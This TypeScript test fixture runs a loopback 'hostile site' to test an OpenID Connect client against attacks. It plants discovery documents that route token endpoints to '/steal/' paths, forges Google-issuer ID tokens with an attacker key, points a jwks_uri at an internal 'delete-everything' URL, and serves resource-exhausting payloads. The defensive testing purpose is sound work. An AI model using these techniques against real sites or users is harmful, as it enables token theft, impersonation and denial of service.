/**
 * A hostile site for the end-to-end "hostile site" suites (issue 9, fault cases 29-34): the attacker's
 * own loopback server, on another host than the person's apps (http://localhost:PORT while the demo
 * provider and apps are on 127.0.0.1), plus an "internal" victim host and a bystander page.
 *
 * Recording is on for every site, so any page a person visits can feed the recorder. What this site
 * serves is everything issue 9's repro steps used:
 *
 *   /plant/<name>/.well-known/openid-configuration   discovery documents it plants (PLANTED below)
 *   /huge/<n>/.well-known/openid-configuration       ~1.3 MB of endpoint URLs each
 *   (tarpit) /hang/<n>/.well-known/openid-configuration   never answered (the socket is held open)
 *   /authorize                                       a "sign in" page: a flow starts with a guessed issuer
 *   /send?kind=forged|forged-iss|deep|deep-small&state=&nonce=  302 to /cb#id_token=... (a fragment callback)
 *   /cb                                              the attacker's redirect_uri (any query, megabytes too)
 *   POST /token                                      400 {"error":"name=aaaa..."} of 250 K characters
 *   /keys/jwks                                       the attacker's public key: what a forged "verified" needs
 *   /steal/*                                         where planted userinfo/introspection/revocation point
 *   anything else                                    204 (floods, form posts)
 *
 * The never-answering documents live on a port of their own (`tarpit`): a browser opens at most six
 * connections to one host and port, so six held requests would otherwise block the attacker's own
 * pages, which is not the attack under test.
 *
 * Every request is recorded (method, URL, headers, body), so a test can assert that no token of the
 * person's ever reached it (`holding`). The victim host records too: a planted jwks_uri names it, and
 * nothing may ever be fetched there (blind requests).
 */
import { randomBytes } from 'node:crypto';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { CompactSign, SignJWT, exportJWK, generateKeyPair, type JWK } from 'jose';

export interface Recorded {
  method: string;
  /** Path and query as sent (the host is the server's). */
  url: string;
  headers: Record<string, string>;
  body: string;
  at: number;
}

export interface RecordingServer {
  origin: string;
  hits: Recorded[];
  /** Requests whose URL, headers or body contain `secret`. */
  holding(secret: string): Recorded[];
}

export interface HostileSite extends RecordingServer {
  /** An internal host that only a planted jwks_uri names: it must never see a request. */
  victim: RecordingServer;
  /** A plain page on another host, to time page loads in another tab while the attack runs. */
  bystander: RecordingServer;
  /** The attacker's second port, where discovery URLs never answer. */
  tarpit: RecordingServer;
  /** The client id the attacker's own flows use. */
  clientId: string;
  /** URL of a planted discovery document (PLANTED). */
  plant(name: Planted): string;
  /** URL of the n-th huge discovery document (n < HUGE_DOCS). */
  huge(n: number): string;
  /** URL of the n-th discovery document that never answers. */
  hang(n: number): string;
  /** An ID token signed with the attacker's key, naming `iss` (default https://accounts.google.com). */
  forgedIdToken(claims: { nonce: string; iss?: string }): Promise<string>;
  /** The 53 KB ID token whose payload nests 20,000 arrays deep. */
  deepIdToken: string;
  /** A 13 KB ID token nested 5,000 deep: small enough to pass a recorder that cuts URLs at 16 KB. */
  deepSmallIdToken: string;
  close(): Promise<void>;
}

/** The issuer the forged tokens and the "another issuer" document claim. */
export const FORGED_ISSUER = 'https://accounts.google.com';
export const HUGE_DOCS = 8;
/** The `error` member of the token endpoint's answer: 250 K characters in all (issue 9, Frozen worker). */
export const ERROR_CHARS = 250_000;
export const DEEP_LEVELS = 20_000;
export const DEEP_SMALL_LEVELS = 5_000;
/** Length of each of the four oversized callback URLs, and of the form field (issue 9, Full storage). */
export const HUGE_CALLBACK_CHARS = 1_600_000;
export const HUGE_FORM_CHARS = 11_000_000;

/**
 * Planted discovery documents, each naming the real provider's authorization and token endpoints (a
 * public fact an attacker copies) so that a flow of the real provider matches them:
 *  - own:        issuer = its own URL (valid for *its* issuer), userinfo/introspection/revocation/jwks
 *                on the attacker's server. Must change no flow of another issuer (fault case 29).
 *  - real-claim: served by the attacker, claims the real provider's issuer (issuer ≠ URL: unused).
 *  - google:     claims https://accounts.google.com, its authorization endpoint and keys the attacker's.
 *  - blind:      claims the real issuer, names the attacker's authorization endpoint (so the attacker's
 *                own flows match it too) and a jwks_uri on the victim host with a path and query
 *                (fault case 30).
 */
export type Planted = 'own' | 'real-claim' | 'google' | 'blind';
export const PLANTED: Planted[] = ['own', 'real-claim', 'google', 'blind'];

/** Node's 16 KB header limit would refuse the 1.6 MB callback URLs before the browser saw an answer. */
const MAX_HEADER = 4 * 1024 * 1024;

const json = (res: ServerResponse, status: number, body: unknown) => {
  res.writeHead(status, { 'content-type': 'application/json', 'cache-control': 'no-store', 'access-control-allow-origin': '*' });
  res.end(typeof body === 'string' ? body : JSON.stringify(body));
};
const page = (res: ServerResponse, title: string) => {
  res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' });
  res.end(`<!doctype html><html><head><meta charset="utf-8"><title>${title}</title></head><body><h1>${title}</h1></body></html>`);
};

async function readBody(req: IncomingMessage): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of req) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks).toString('utf8');
}

type Handler = (req: IncomingMessage, res: ServerResponse, url: URL, body: string) => void;

/**
 * A server that records every request, listening on 127.0.0.1 and, when the machine has it, on ::1 at
 * the same port, so `http://localhost:PORT` reaches it whichever address the browser tries first.
 */
async function recordingServer(host: '127.0.0.1' | 'localhost', handle: Handler): Promise<RecordingServer & { close(): Promise<void> }> {
  const hits: Recorded[] = [];
  const sockets = new Set<Socket>();
  const onRequest = (req: IncomingMessage, res: ServerResponse) => {
    readBody(req).then(
      (body) => {
        const url = new URL(req.url ?? '/', 'http://fixture');
        const headers = Object.fromEntries(Object.entries(req.headers).map(([k, v]) => [k, Array.isArray(v) ? v.join(', ') : (v ?? '')]));
        hits.push({ method: req.method ?? 'GET', url: req.url ?? '/', headers, body, at: Date.now() });
        handle(req, res, url, body);
      },
      () => res.destroy(),
    );
  };
  const servers: Server[] = [];
  const start = (address: string, port: number) =>
    new Promise<Server>((resolve, reject) => {
      const s = createServer({ maxHeaderSize: MAX_HEADER }, onRequest);
      s.on('connection', (c) => {
        sockets.add(c);
        c.on('close', () => sockets.delete(c));
      });
      s.once('error', reject);
      s.listen(port, address, () => resolve(s));
    });
  const first = await start('127.0.0.1', 0);
  servers.push(first);
  const port = (first.address() as AddressInfo).port;
  if (host === 'localhost') {
    const v6 = await start('::1', port).catch(() => undefined); // no IPv6 loopback: 127.0.0.1 alone serves
    if (v6) servers.push(v6);
  }
  return {
    origin: `http://${host}:${port}`,
    hits,
    holding: (secret) => hits.filter((h) => h.url.includes(secret) || h.body.includes(secret) || Object.values(h.headers).some((v) => v.includes(secret))),
    close: async () => {
      for (const c of sockets) c.destroy(); // held /hang requests and keep-alive sockets
      await Promise.all(servers.map((s) => new Promise<void>((r) => s.close(() => r()))));
    },
  };
}

/** {"x":[[[...]]]} nested `levels` deep, built as text: JSON.stringify itself would recurse that deep. */
function deepJson(prefix: Record<string, unknown>, levels: number): string {
  const head = JSON.stringify(prefix).slice(0, -1);
  return `${head},"deep":${'['.repeat(levels)}${']'.repeat(levels)}}`;
}

export interface HostileSiteOptions {
  /** The person's real provider: planted documents copy its public authorization and token endpoints. */
  realIssuer: string;
}

export async function startHostileSite(opts: HostileSiteOptions): Promise<HostileSite> {
  const real = (await (await fetch(`${opts.realIssuer}/.well-known/openid-configuration`)).json()) as Record<string, string>;
  const { privateKey, publicKey } = await generateKeyPair('RS256', { extractable: true });
  const kid = `attacker-${randomBytes(3).toString('hex')}`;
  const publicJwk: JWK = { ...(await exportJWK(publicKey)), kid, alg: 'RS256', use: 'sig' };
  const clientId = 'evil-client';

  const victim = await recordingServer('127.0.0.1', (_req, res) => json(res, 200, { keys: [] }));
  const bystander = await recordingServer('127.0.0.1', (_req, res) => page(res, 'An ordinary page'));
  // Never answers; close() ends the held sockets.
  const tarpit = await recordingServer('localhost', () => undefined);

  // Known once the attacker's server listens; no request can arrive before.
  let origin = '';
  const steal = (p: string) => `${origin}/steal/${p}`;
  const docs = (): Record<Planted, Record<string, unknown>> => ({
    own: {
      issuer: `${origin}/plant/own`,
      authorization_endpoint: real.authorization_endpoint,
      token_endpoint: real.token_endpoint,
      userinfo_endpoint: steal('userinfo'),
      introspection_endpoint: steal('introspect'),
      revocation_endpoint: steal('revoke'),
      jwks_uri: `${origin}/keys/jwks`,
    },
    'real-claim': {
      issuer: opts.realIssuer,
      authorization_endpoint: real.authorization_endpoint,
      token_endpoint: real.token_endpoint,
      userinfo_endpoint: steal('userinfo-2'),
      introspection_endpoint: steal('introspect-2'),
      revocation_endpoint: steal('revoke-2'),
      jwks_uri: `${origin}/keys/jwks`,
    },
    google: {
      issuer: FORGED_ISSUER,
      authorization_endpoint: `${origin}/authorize`,
      token_endpoint: `${origin}/token`,
      userinfo_endpoint: steal('userinfo-3'),
      introspection_endpoint: steal('introspect-3'),
      jwks_uri: `${origin}/keys/jwks`,
    },
    blind: {
      issuer: opts.realIssuer,
      authorization_endpoint: `${origin}/authorize`,
      token_endpoint: real.token_endpoint,
      jwks_uri: `${victim.origin}/internal/admin/delete-everything?confirm=yes&from=grantscope`,
    },
  });
  // ~1.3 MB: endpoint fields and their mtls aliases, ~80 K characters each, all distinct. The
  // authorization endpoint is the attacker's real one, so flows the attacker started match the document.
  const hugeDoc = (n: number) => {
    const long = (field: string) => `${origin}/huge/${n}/${field}/${'x'.repeat(80_000)}`;
    const fields = ['token_endpoint', 'jwks_uri', 'userinfo_endpoint', 'introspection_endpoint', 'revocation_endpoint', 'device_authorization_endpoint', 'pushed_authorization_request_endpoint'];
    const ends = Object.fromEntries(fields.map((f) => [f, long(f)]));
    const aliases = Object.fromEntries(fields.map((f) => [f, long(`mtls-${f}`)]));
    return JSON.stringify({ issuer: `${origin}/huge/${n}`, authorization_endpoint: `${origin}/authorize`, ...ends, mtls_endpoint_aliases: aliases });
  };
  const errorAnswer = JSON.stringify({ error: `name=${'a'.repeat(ERROR_CHARS - 'name='.length)}` });

  const forgedIdToken = (c: { nonce: string; iss?: string }) =>
    new SignJWT({ nonce: c.nonce, email: 'victim@gmail.com', email_verified: true })
      .setProtectedHeader({ alg: 'RS256', kid, typ: 'JWT' })
      .setIssuer(c.iss ?? FORGED_ISSUER)
      .setSubject('110169484474386276334')
      .setAudience(clientId)
      .setIssuedAt()
      .setExpirationTime('10m')
      .sign(privateKey);
  const now = Math.floor(Date.now() / 1000);
  const deepPayload = (levels: number) => deepJson({ iss: '', sub: 'deep', aud: clientId, iat: now, exp: now + 3600, nonce: 'deep-nonce' }, levels);
  let deepIdToken = '';
  let deepSmallIdToken = '';
  const sendCallback = new Map<string, (state: string, nonce: string) => Promise<string>>([
    ['forged', async (state, nonce) => `id_token=${await forgedIdToken({ nonce })}&state=${state}`],
    // RFC 9207's iss parameter is the attacker's to write in its own answer, as is everything else.
    ['forged-iss', async (state, nonce) => `id_token=${await forgedIdToken({ nonce })}&state=${state}&iss=${encodeURIComponent(FORGED_ISSUER)}`],
    ['deep', (state) => Promise.resolve(`id_token=${deepIdToken}&state=${state}`)],
    ['deep-small', (state) => Promise.resolve(`id_token=${deepSmallIdToken}&state=${state}`)],
  ]);

  const site = await recordingServer('localhost', (req, res, url) => {
    const path = url.pathname;
    const planted = /^\/plant\/([a-z-]+)\/\.well-known\/openid-configuration$/.exec(path)?.[1] as Planted | undefined;
    if (planted && planted in docs()) return json(res, 200, docs()[planted]);
    const huge = /^\/huge\/(\d+)\/\.well-known\/openid-configuration$/.exec(path)?.[1];
    if (huge !== undefined) return json(res, 200, hugeDoc(Number(huge)));
    if (path === '/keys/jwks') return json(res, 200, { keys: [publicJwk] });
    if (path.startsWith('/steal/')) return json(res, 200, { sub: 'stolen', active: true });
    if (path === '/token' && req.method === 'POST') return json(res, 400, errorAnswer);
    if (path === '/send') {
      const make = sendCallback.get(url.searchParams.get('kind') ?? '');
      if (!make) return json(res, 400, { error: 'unknown kind' });
      void make(url.searchParams.get('state') ?? '', url.searchParams.get('nonce') ?? '').then((fragment) => {
        res.writeHead(302, { location: `${origin}/cb#${fragment}`, 'cache-control': 'no-store' }).end();
      });
      return;
    }
    if (path === '/authorize') return page(res, 'Sign in with Google');
    if (path === '/cb') return page(res, 'Signed in');
    if (path === '/' || path === '/index.html') return page(res, 'Free wallpapers');
    res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
  });
  origin = site.origin;
  // The deep token names the attacker's origin as its issuer; signed, so only its depth is hostile.
  const signDeep = (levels: number) =>
    new CompactSign(new TextEncoder().encode(deepPayload(levels).replace('"iss":""', `"iss":${JSON.stringify(origin)}`)))
      .setProtectedHeader({ alg: 'RS256', kid, typ: 'JWT' })
      .sign(privateKey);
  deepIdToken = await signDeep(DEEP_LEVELS);
  deepSmallIdToken = await signDeep(DEEP_SMALL_LEVELS);

  return {
    ...site,
    victim,
    bystander,
    tarpit,
    clientId,
    plant: (name) => `${origin}/plant/${name}/.well-known/openid-configuration`,
    huge: (n) => `${origin}/huge/${n}/.well-known/openid-configuration`,
    hang: (n) => `${tarpit.origin}/hang/${n}/.well-known/openid-configuration`,
    forgedIdToken,
    deepIdToken,
    deepSmallIdToken,
    close: async () => {
      await Promise.all([site.close(), victim.close(), bystander.close(), tarpit.close()]);
    },
  };
}
